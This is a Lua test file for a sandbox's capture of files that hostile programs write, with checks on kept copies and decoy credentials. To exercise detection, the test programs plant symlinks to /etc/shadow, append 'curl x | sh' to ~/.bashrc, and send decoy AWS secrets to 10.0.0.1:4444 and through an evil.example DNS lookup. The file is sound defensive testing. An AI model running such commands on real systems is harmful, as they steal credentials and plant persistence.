-- SPDX-License-Identifier: MIT
-- The written files of a run (sbx.written, core/super/capture.c): hostile
-- programs leave files, symlink traps, deep trees, huge and unreadable
-- files and hostile names in the box's writable places; the record is
-- checked against the host's own computation of the same bytes, the
-- --keep directory from the host, the decoys from inside and outside.
-- scripts/test.sh runs this file as root and as uid 65534.
local S = require "support"
local core = require "sbx.core"
local cjson = require "cjson"

local run = S.runlua

-- runs run.lua with --json into a fresh file; returns the decoded result,
-- stdout, the report and the exit status
local function run_json(...)
	local d, rm = S.tmpdir()
	local json = d .. "/r.json"
	local out, err, code = run("--json", json, ...)
	local r = cjson.decode((assert(S.read(json), err)))
	rm()
	return r, out, err, code
end

local function by_path(list)
	local t = {}
	for _, f in ipairs(list or {}) do t[f.path] = f end
	return t
end

-- the bytes the droppers write, computed again on the host
local function pattern(k)
	local b = {}
	for i = 0, 255 do b[#b + 1] = string.char(i) end
	return table.concat(b):rep(k)
end

local DROP = [[
import os
data = bytes(range(256))
for path, k in (("/work/drop.bin", 1), ("/tmp/t.bin", 300), ("/dev/shm/s.bin", 7)):
    with open(path, "wb") as f:
        f.write(data * k)
os.chmod("/tmp/t.bin", 0o600)
os.makedirs("/work/sub/dir")
with open("/work/sub/dir/leaf", "wb") as f:
    f.write(b"leaf\n")
]]

describe("written files [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	it("droppers in /work, /tmp and /dev/shm: size, mode and SHA-256 as the host computes them", function()
		local r, _, err, code = run_json("--verbose", "python3", "-c", DROP)
		assert.are.equal(0, code, err)
		local files = by_path(r.files_dropped)
		local want = {
			["/work/drop.bin"] = { pattern(1), "0644" },
			["/tmp/t.bin"] = { pattern(300), "0600" },
			["/dev/shm/s.bin"] = { pattern(7), "0644" },
			["/work/sub/dir/leaf"] = { "leaf\n", "0644" },
		}
		for path, w in pairs(want) do
			local f = files[path]
			assert.is_table(f, path)
			assert.are.equal(#w[1], f.size, path)
			assert.are.equal(w[2], f.mode, path)
			assert.are.equal(core.sha256(w[1]), f.sha256, path)
		end
		-- the program itself (a read-only bind under /work) is not one
		for path in pairs(files) do assert.is_truthy(want[path], path) end
		assert.is_truthy(err:find("sandbox: written: /tmp/t.bin (file 0600, 75 KiB, sha256:"
			.. core.sha256(pattern(300)) .. ")\n", 1, true), err)
		assert.is_truthy(err:find("sandbox: written: /work/sub/dir/leaf (file 0644, 5 B, sha256:"
			.. core.sha256("leaf\n") .. ")\n", 1, true), err)
		assert.is_nil(r.files_bounds)
	end)

	it("without --verbose, no written line; two runs give the same report", function()
		local _, err1 = run("sh", "-c", "echo a > /work/a")
		local _, err2 = run("sh", "-c", "echo a > /work/a")
		assert.are.equal("sandbox: exit 0\n", err1)
		assert.are.equal(err1, err2)
	end)

	it("a symlink trap is recorded as symlinks with their text, nothing of the host read", function()
		local d, rm = S.tmpdir()
		local keep = d .. "/keep"
		local r, _, err, code = run_json("--verbose", "--keep", keep, "sh", "-c",
			"ln -s /etc/shadow /work/x; ln -s / /work/d; ln -s /etc /tmp/e; ln -s ../../../../etc/passwd /dev/shm/p;"
			.. " mkdir /work/in; ln -s /proc/1/root /work/in/r")
		assert.are.equal(0, code, err)
		local files = by_path(r.files)
		for path, target in pairs { ["/work/x"] = "/etc/shadow", ["/work/d"] = "/", ["/tmp/e"] = "/etc",
			["/dev/shm/p"] = "../../../../etc/passwd", ["/work/in/r"] = "/proc/1/root" } do
			assert.are.equal("link", files[path].type, path)
			assert.are.equal(target, files[path].link, path)
			assert.is_nil(files[path].sha256, path)
		end
		-- nothing below a link was walked; no regular file at all
		for path, f in pairs(files) do
			assert.is_falsy(path:find("^/work/d/") or path:find("^/tmp/e/"), path)
			assert.are_not.equal("file", f.type, path)
		end
		assert.is_truthy(err:find("sandbox: written: /work/x (link -> /etc/shadow)\n", 1, true), err)
		assert.is_truthy(err:find("sandbox: written: /work/d (link -> /)\n", 1, true), err)
		-- the keep directory holds no link and no file
		local found = S.sh("find " .. S.q(keep) .. " -mindepth 1 ! -type d")
		assert.are.equal("", found)
		rm()
	end)

	it("only what exists at the end: files deleted and renamed by the program", function()
		local r, _, err, code = run_json("sh", "-c",
			"echo 1 > /work/gone; echo 2 > /work/old; echo 3 > /tmp/t; rm /work/gone; mv /work/old /work/new;"
			.. " mv /tmp/t /work/moved; mkdir /tmp/dd; echo 4 > /tmp/dd/f; rm -r /tmp/dd")
		assert.are.equal(0, code, err)
		local files = by_path(r.files_dropped)
		assert.are.same({ "/work/moved", "/work/new" }, (function()
			local l = {}
			for p in pairs(files) do l[#l + 1] = p end
			table.sort(l)
			return l
		end)())
		assert.are.equal(core.sha256("2\n"), files["/work/new"].sha256)
		assert.are.equal(core.sha256("3\n"), files["/work/moved"].sha256)
	end)

	it("a program the wall clock killed leaves its record too; the tree's own mount points are not listed", function()
		local d, rm = S.tmpdir()
		os.execute("mkdir " .. S.q(d .. "/ro") .. " && chmod -R a+rX " .. S.q(d))
		local r, _, err, code = run_json("--verbose", "--wall", "1", "--ro", d .. "/ro:/work/ro",
			"--tmp", "/work/scratch", "sh", "-c",
			"echo a > /work/a; echo b > /tmp/b; echo c > /work/scratch/c; exec sleep 30")
		assert.are.equal(124, code, err)
		local files = by_path(r.files)
		assert.are.equal(core.sha256("a\n"), files["/work/a"].sha256)
		assert.are.equal(core.sha256("b\n"), files["/tmp/b"].sha256)
		assert.are.equal(core.sha256("c\n"), files["/work/scratch/c"].sha256)
		assert.is_truthy(err:find("sandbox: killed: wall clock (1 s)\n", 1, true), err)
		-- a program bound under /work: its mount point is not a written file
		r, _, err, code = run_json("build/tests/bare_true")
		assert.are.equal(0, code, err)
		assert.are.same({}, r.files)
		rm()
	end)

	it("a deep tree stops at the depth bound, and the record says so", function()
		local r, _, err, code = run_json("--verbose", "sh", "-c",
			"p=/work; i=0; while [ $i -lt 40 ]; do p=$p/d; mkdir $p; i=$((i+1)); done; echo deep > $p/f; echo top > /work/top")
		assert.are.equal(0, code, err)
		assert.is_true(r.files_bounds.depth)
		assert.is_truthy(by_path(r.files)["/work/top"])
		for _, f in ipairs(r.files) do assert.are_not.equal("deep", f.path:match("/f$") and "deep", f.path) end
		assert.is_truthy(err:find("sandbox: written: stopped at a bound (depth)\n", 1, true), err)
	end)

	it("a huge file is not read past the bytes bound; many files stop at the entries bound", function()
		local r, _, err, code = run_json("--verbose", "--fsize", "1G", "python3", "-c", [[
import os
with open("/tmp/huge", "wb") as f:
    f.truncate(300 << 20)
for i in range(10050):
    open("/work/n%05d" % i, "w").close()
]])
		assert.are.equal(0, code, err)
		local huge = by_path(r.files)["/tmp/huge"]
		if huge then -- /tmp is walked after /work: only if the entries bound left room
			assert.is_nil(huge.sha256)
			assert.are.equal("bound", huge.unread)
		end
		assert.is_true(r.files_bounds.entries)
		assert.are.equal(10000, #r.files)
		assert.is_truthy(err:find("sandbox: written: stopped at a bound (entries", 1, true), err)
		-- the huge file alone: the bytes bound
		r, _, err, code = run_json("--verbose", "--fsize", "1G", "sh", "-c", "truncate -s 300M /tmp/huge")
		assert.are.equal(0, code, err)
		huge = by_path(r.files)["/tmp/huge"]
		assert.are.equal(300 << 20, huge.size)
		assert.are.equal("bound", huge.unread)
		assert.is_nil(huge.sha256)
		assert.is_true(r.files_bounds.read)
		assert.is_truthy(err:find("sandbox: written: /tmp/huge (file 0644, 300 MiB, not read: bound)\n", 1, true), err)
		assert.is_truthy(err:find("sandbox: written: stopped at a bound (read)\n", 1, true), err)
	end)

	describe("--keep", function()
		it("copies the files out under safe names: no '..', no control character, no long name", function()
			local d, rm = S.tmpdir()
			local keep = d .. "/keep"
			local long = ("L"):rep(250)
			local r, _, err, code = run_json("--keep", keep, "python3", "-c", ([[
import os
names = ["new\nline", "..", "...", "a%%2Fb", "-rf", "\x01ctl\x7f", "sp ace", "%s", "..%%2F..%%2Fetc"]
for n in names:
    p = "/work/" + n
    if n == "..":
        p = "/work/dots/x"
        os.makedirs("/work/dots")
    with open(p, "wb") as f:
        f.write(n.encode())
os.makedirs("/tmp/.." + "/tmp/up", exist_ok=True)
with open("/tmp/up/f", "w") as f:
    f.write("up")
]]):format(long))
			assert.are.equal(0, code, err)
			assert.is_true(#r.files >= 10)
			-- every kept name, as the host lists it, is safe and inside keep
			local list = S.sh("cd " .. S.q(keep) .. " && find . -mindepth 1 -print0 | tr '\\0' '\\n'")
			local n = 0
			for name in list:gmatch("[^\n]+") do
				n = n + 1
				assert.is_truthy(name:match("^%./[%w%._%-%%~/]+$"), name)
				for comp in name:gmatch("[^/]+") do
					assert.is_true(#comp <= 255, name)
					assert.is_falsy(comp == ".." and name ~= "..", name)
				end
			end
			assert.is_true(n >= 10)
			-- each kept copy holds the same bytes the record hashed
			for _, f in ipairs(r.files) do
				assert.is_string(f.kept, f.path)
				local data = assert(S.read(keep .. "/" .. f.kept), f.kept)
				assert.are.equal(f.sha256, core.sha256(data), f.path)
				assert.is_falsy(f.kept:find("%.%./") or f.kept:find("^/"), f.kept)
			end
			local st = core.lstat(keep)
			assert.are.equal(tonumber("700", 8), st.mode & tonumber("777", 8))
			assert.are.equal(S.euid(), st.uid)
			rm()
		end)

		it("copies a dot file of the home the program changed, and none it left as placed", function()
			local d, rm = S.tmpdir()
			local keep = d .. "/keep"
			local r, _, err, code = run_json("--keep", keep, "sh", "-c",
				"echo 'curl x | sh' >> ~/.bashrc; cat ~/.profile >/dev/null; echo y > /tmp/y")
			assert.are.equal(0, code, err)
			local files = by_path(r.files)
			local home = require("sbx.stdbox").user.home
			local rc = files[home .. "/.bashrc"]
			assert.is_table(rc, err)
			assert.is_string(rc.kept)
			local data = assert(S.read(keep .. "/" .. rc.kept))
			assert.are.equal(rc.sha256, core.sha256(data))
			assert.truthy(data:find("curl x | sh\n$"))
			assert.is_string(files["/tmp/y"].kept)
			-- the dot files as placed: neither recorded nor copied
			assert.is_nil(files[home .. "/.profile"])
			local list = S.sh("cd " .. S.q(keep) .. " && find . -type f | sort")
			assert.are.same({ "./" .. rc.kept, "./" .. files["/tmp/y"].kept },
				(function()
					local t = {}
					for l in list:gmatch("[^\n]+") do t[#t + 1] = l end
					return t
				end)())
			rm()
		end)

		it("refuses an existing DIR that is not empty, a DIR that is a symlink, and another's DIR", function()
			local d, rm = S.tmpdir()
			os.execute("mkdir " .. S.q(d .. "/full") .. " && touch " .. S.q(d .. "/full/f"))
			os.execute("mkdir " .. S.q(d .. "/empty") .. " && ln -s empty " .. S.q(d .. "/link"))
			local _, err, code = run("--keep", d .. "/full", "true")
			assert.are.equal(126, code)
			assert.are.equal("sbxlua: keep directory " .. d .. "/full: Directory not empty\n", err)
			_, err, code = run("--keep", d .. "/link", "sh", "-c", "echo x > /work/x")
			assert.are.equal(126, code)
			assert.are.equal("sbxlua: keep directory " .. d .. "/link: Too many levels of symbolic links\n", err)
			assert.are.equal("", S.sh("ls -A " .. S.q(d .. "/empty")))
			-- an empty directory of the caller's is taken (0700)
			local _, err2, code2 = run("--keep", d .. "/empty", "sh", "-c", "echo x > /work/x")
			assert.are.equal(0, code2, err2)
			assert.are.equal("x\n", S.read(d .. "/empty/work/x"))
			if S.euid() == 0 then
				os.execute("mkdir " .. S.q(d .. "/other") .. " && chown 1234 " .. S.q(d .. "/other"))
				_, err, code = run("--keep", d .. "/other", "true")
				assert.are.equal(126, code)
				assert.are.equal("sbxlua: keep directory " .. d .. "/other: Operation not permitted\n", err)
			end
			rm()
		end)

		it("is refused with a backend that builds no tree of the box's own", function()
			local _, err, code = run("--backend", "process", "--keep", "/tmp/never", "true")
			assert.are.equal(126, code)
			assert.are.equal("sbxlua: --keep: needs the namespace box (--backend ns)\n", err)
		end)
	end)

	describe("--decoys", function()
		it("places marked credentials, readable in the box; a marker in a written file is noted", function()
			local d, rm = S.tmpdir()
			local keep = d .. "/keep"
			local r, out, err, code = run_json("--decoys", "--keep", keep, "sh", "-c",
				"head -1 ~/.ssh/id_rsa; grep -c aws_secret_access_key ~/.aws/credentials; cut -d: -f1 /etc/shadow;"
				.. " test -r ~/'.config/google-chrome/Default/Login Data' && echo chrome;"
				.. " { echo x >> ~/.ssh/id_rsa; } 2>/dev/null || echo ro; cat ~/.aws/credentials > /tmp/out.txt")
			assert.are.equal(0, code, err)
			assert.are.equal("-----BEGIN RSA PRIVATE KEY-----\n1\nroot\ndana\nchrome\nro\n", out)
			assert.are.equal("sandbox: exit 0\nsandbox: note: decoy ~/.aws/credentials's marker found in /tmp/out.txt\n", err)
			local decoys = {}
			for _, dc in ipairs(r.decoys) do decoys[dc.name] = dc end
			assert.are.equal(4, #r.decoys)
			for _, name in ipairs { "~/.ssh/id_rsa", "~/.aws/credentials",
				"~/.config/google-chrome/Default/Login Data", "/etc/shadow" } do
				assert.is_truthy(decoys[name] and decoys[name].marker:match("^[a-z0-9]+$") and #decoys[name].marker == 24, name)
			end
			-- the copied output holds the marker; the decoys as placed are not dropped files
			local copy = assert(S.read(keep .. "/tmp/out.txt"))
			assert.is_truthy(copy:find(decoys["~/.aws/credentials"].marker, 1, true))
			local dropped = by_path(r.files_dropped)
			assert.is_nil(dropped["/home/dana/.ssh/id_rsa"])
			assert.is_table(dropped["/tmp/out.txt"])
			-- recorded as placed, marked, and neither copied nor typed
			local files = by_path(r.files)
			assert.are.equal("~/.ssh/id_rsa", files["/home/dana/.ssh/id_rsa"].decoy)
			assert.is_nil(files["/home/dana/.ssh/id_rsa"].kept)
			assert.is_nil(files["/home/dana/.ssh/id_rsa"].mime)
			assert.are.equal("", S.sh("find " .. S.q(keep) .. " -path '*ssh*'"))
			rm()
		end)

		it("a decoy the program replaced is recorded, typed and copied as its own", function()
			local d, rm = S.tmpdir()
			local keep = d .. "/keep"
			local r, _, err, code = run_json("--decoys", "--keep", keep, "sh", "-c",
				"rm -f ~/.ssh/id_rsa && echo replaced > ~/.ssh/id_rsa")
			assert.are.equal(0, code, err)
			local f = by_path(r.files)["/home/dana/.ssh/id_rsa"]
			assert.is_nil(f.decoy)
			assert.are.equal("text/plain", f.mime)
			assert.are.equal("replaced\n", S.read(keep .. "/" .. f.kept))
			rm()
		end)

		it("a marker in captured output is found (sbx.written.marker_hits)", function()
			local stdbox = require "sbx.stdbox"
			local written = require "sbx.written"
			local spec, info = assert(stdbox.build { prog = "sh", args = { "-c", "head -1 /etc/shadow; cat ~/.ssh/id_rsa >&2" },
				decoys = true, stdout = "capture", stderr = "capture" })
			local b <close> = assert(core.box(spec))
			local r = b:run()
			assert.are.equal("exit", r.outcome, r.stderr)
			local files = written.files(r, info.decoys, info.mount_points)
			assert.are.same({}, written.dropped(files))
			local hits = written.marker_hits(r, files, info.decoys)
			table.sort(hits, function(x, y) return x.where < y.where end)
			assert.are.same({ { decoy = "~/.ssh/id_rsa", where = "stderr" },
				{ decoy = "/etc/shadow", where = "stdout" } }, hits)
		end)

		it("a marker sent to the network sink or looked up is noted", function()
			local _, _, code = run("--net", "sink", "true")
			if code ~= 0 then return pending("--net sink does not run here") end
			local _, err, code2 = run("--decoys", "--net", "sink", "python3", "-c", [[
import socket
data = open("/home/dana/.aws/credentials").read()
s = socket.create_connection(("10.0.0.1", 4444))
s.sendall(data[data.index("aws_secret"):].encode())
s.close()
m = "".join(c for c in open("/etc/shadow").read().split("$")[3].split(":")[0] if c.isalnum())[:40]
try:
    socket.getaddrinfo(m + ".evil.example", 80)
except OSError:
    pass
]])
			assert.are.equal(0, code2, err)
			assert.are.equal("sandbox: exit 0\n"
				.. "sandbox: note: decoy ~/.aws/credentials's marker found in tcp 10.0.0.1:4444\n"
				.. "sandbox: note: decoy /etc/shadow's marker found in a dns lookup\n", err)
		end)

		it("a marker is random per run", function()
			local r1 = run_json("--decoys", "true")
			local r2 = run_json("--decoys", "true")
			assert.are_not.equal(r1.decoys[1].marker, r2.decoys[1].marker)
		end)

		-- the kernel's bytes are read 4 KiB at a time (sbx.written): none
		-- may be handed out twice, and every character stays as likely
		it("markers made in one process are each new and evenly drawn", function()
			local out, err, code = S.sh_err(S.bin .. " -e " .. S.q([[
				local w = require "sbx.written"
				local seen, count, n = {}, {}, 4000
				for _ = 1, n do
					local m = w.marker()
					assert(#m == 24 and m:match("^[a-z0-9]+$"), m)
					assert(not seen[m], "a marker twice: " .. m)
					seen[m] = true
					for c in m:gmatch(".") do count[c] = (count[c] or 0) + 1 end
				end
				local lo, hi, kinds = math.huge, 0, 0
				for _, v in pairs(count) do
					kinds, lo, hi = kinds + 1, math.min(lo, v), math.max(hi, v)
				end
				local chunks = {}
				for i = 1, 3000 do
					local b = w.random_bytes(7)
					assert(#b == 7 and not chunks[b], "bytes twice at " .. i)
					chunks[b] = true
				end
				print(kinds, lo, hi)
			]]))
			assert.are.equal(0, code, err)
			-- 96,000 characters over 36: 2,667 each expected, sd 51
			local kinds, lo, hi = out:match("^(%d+)\t(%d+)\t(%d+)\n$")
			assert.are.equal("36", kinds, out)
			assert.is_true(tonumber(lo) > 2367 and tonumber(hi) < 2967, out)
		end)

		it("sbx.written.random_bytes refuses what is not a count of bytes", function()
			local w = require "sbx.written"
			for _, n in ipairs { -1, 1.5, (1 << 20) + 1, "3" } do
				assert.has_error(function() w.random_bytes(n) end,
					"bad argument #1 to 'random_bytes' (a count of bytes from 0 to 1 MiB expected)")
			end
			assert.has_error(function() w.random_bytes() end,
				"bad argument #1 to 'random_bytes' (a count of bytes from 0 to 1 MiB expected)")
			assert.are.equal("", w.random_bytes(0))
			assert.are.equal(5000, #w.random_bytes(5000))
		end)

		it("no decoy without --decoys", function()
			local out, _, code = run("sh", "-c", "ls -A ~; test -e /etc/shadow && echo shadow || true")
			assert.are.equal(0, code)
			assert.is_falsy(out:find(".ssh", 1, true) or out:find("shadow", 1, true), out)
		end)
	end)

	it("more writable places than the record walks are refused, not left out", function()
		local args = {}
		for i = 1, 14 do
			args[#args + 1] = "--tmp"
			args[#args + 1] = "/t" .. i
		end
		args[#args + 1] = "true"
		local _, err, code = run(table.unpack(args))
		assert.are.equal(126, code)
		assert.are.equal("sbxlua: --tmp and --rw: at most 16 writable places in all, with /work, /tmp, /dev/shm and the home\n", err)
	end)

	it("the core checks spec.capture field by field", function()
		local spec = S.spec("true", { capture = { places = { "/tmp" }, keeep = "/x" } })
		assert.has_error(function() core.box(spec) end, "bad argument #1 to 'box' (unknown key 'keeep')")
		spec = S.spec("true", { capture = { places = { "tmp" } } })
		assert.has_error(function() core.box(spec) end)
		spec = S.spec("true", { capture = { places = { "/tmp" }, markers = { "short" } } })
		assert.has_error(function() core.box(spec) end,
			"bad argument #1 to 'box' (field 'capture.markers': a marker has 8 to 64 bytes)")
		local bad = "bad argument #1 to 'box' (field 'capture.placed' must map box paths to true or a sha256)"
		for _, placed in ipairs { "/work/x", { "/work/x" }, { ["/work/x"] = false }, { ["/work/x"] = "abc" },
			{ ["/work/x"] = ("A"):rep(64) }, { ["/work/x"] = ("g"):rep(64) }, { ["/work/x"] = 1 } } do
			spec = S.spec("true", { capture = { places = { "/tmp" }, placed = placed } })
			assert.has_error(function() core.box(spec) end, bad)
		end
		spec = S.spec("true", { capture = { places = { "/tmp" }, placed = { ["work/x"] = true } } })
		assert.has_error(function() core.box(spec) end)
		local many = {}
		for i = 1, 257 do many["/work/" .. i] = true end
		spec = S.spec("true", { capture = { places = { "/tmp" }, placed = many } })
		assert.has_error(function() core.box(spec) end,
			"bad argument #1 to 'box' (field 'capture.placed' has more than 256)")
	end)
end)
